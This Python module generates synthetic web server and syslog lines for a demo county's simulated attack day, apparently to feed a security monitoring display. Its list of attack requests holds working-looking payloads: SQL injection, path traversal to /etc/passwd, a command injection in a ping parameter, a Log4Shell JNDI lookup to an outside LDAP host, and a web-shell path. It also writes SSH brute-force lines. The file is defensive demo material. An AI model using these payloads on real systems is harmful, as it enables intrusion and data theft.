"""An attack day of the demo county, as the log lines that its servers would write. Pure: the moment is given."""

import random
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime

_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 Chrome/130.0 Mobile Safari/537.36 MicroMessenger/8.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
)
_PAGES = (
    "/",
    "/index.html",
    "/zwgk/",
    "/zwgk/list.html?page=2",
    "/bsfw/detail?id=118",
    "/news/2026/1120.html",
    "/css/main.css",
)
_ATTACKS = (
    ("/news.php?id=1%20UNION%20ALL%20SELECT%201,user(),3", 200, "", 5),
    ("/news.php?id=7%27%20OR%20%271%27=%271", 500, "", 4),
    ("/download?f=..%2f..%2f..%2fetc/passwd", 404, "", 4),
    ("/cgi/ping?h=127.0.0.1;cat%20/etc/passwd", 403, "", 3),
    ("/?x=$%7bjndi:ldap://198.51.100.66/a%7d", 200, "", 2),
    ("/uploads/2026/a.php", 200, "", 2),
    ("/admin/", 404, "sqlmap/1.8", 6),
    ("/login", 404, "Mozilla/5.0 zgrab/0.x", 4),
)
_USERS = ("oracle", "test", "zhangwei", "lina", "wangfang")


@dataclass(frozen=True, slots=True)
class Sent:
    """A line and the unit code whose server writes it; `kind` is "nginx" or "syslog"."""

    unit: str
    kind: str
    line: str


def day(units: list[str], seed: int = 20261124) -> Iterator[tuple[float, list[Sent]]]:
    """Endless steps: (seconds to wait before, units' lines without their time, which `{when}` and `{stamp}` stand for).

    The first minute brings an attack every second or two, so that a visitor sees the desk fill; then it calms down.
    """
    chance = random.Random(seed)  # noqa: S311 -- a story, not a secret
    passed = 0.0
    next_attack = 1.0
    while True:
        pause = 0.25
        passed += pause
        lines = [_visit(chance, chance.choice(units)) for _ in range(chance.randint(2, 8))]
        if passed >= next_attack:
            lines += _attack(chance, chance.choice(units))
            next_attack = passed + (chance.uniform(0.8, 2.0) if passed < 60 else chance.uniform(5, 20))
        yield pause, lines


def _visit(chance: random.Random, unit: str) -> Sent:
    client = f"192.0.2.{chance.randint(2, 254)}"
    status = chance.choices((200, 304, 404), (90, 8, 2))[0]
    return Sent(
        unit,
        "nginx",
        _web(client, chance.choice(_PAGES), status, chance.choice(_BROWSERS), chance.randint(300, 40_000)),
    )


def _attack(chance: random.Random, unit: str) -> list[Sent]:
    client = f"203.0.113.{chance.randint(2, 60)}"
    if chance.random() < 0.25:
        user = chance.choice(_USERS)
        process, port = chance.randint(500, 9000), chance.randint(2000, 60000)
        text = f"<38>{{stamp}} gate sshd[{process}]: Failed password for invalid user {user} from {client} port {port} ssh2"
        return [Sent(unit, "syslog", text)] * chance.randint(3, 12)
    path, status, agent, weight = chance.choices(_ATTACKS, [a[3] for a in _ATTACKS])[0]
    line = _web(client, path, status, agent or chance.choice(_BROWSERS), chance.randint(100, 900))
    return [Sent(unit, "nginx", line)] * (chance.randint(1, 9) if weight > 3 else 1)


def _web(client: str, path: str, status: int, agent: str, size: int) -> str:
    return f'{client} - - [{{when}}] "GET {path} HTTP/1.1" {status} {size} "-" "{agent}"'


def dated(line: str, now: datetime) -> str:
    """The line with its time put in, in the zone of `now`."""
    when = now.strftime("%d/%b/%Y:%H:%M:%S %z")
    return line.replace("{when}", when).replace("{stamp}", now.strftime("%b %e %H:%M:%S"))
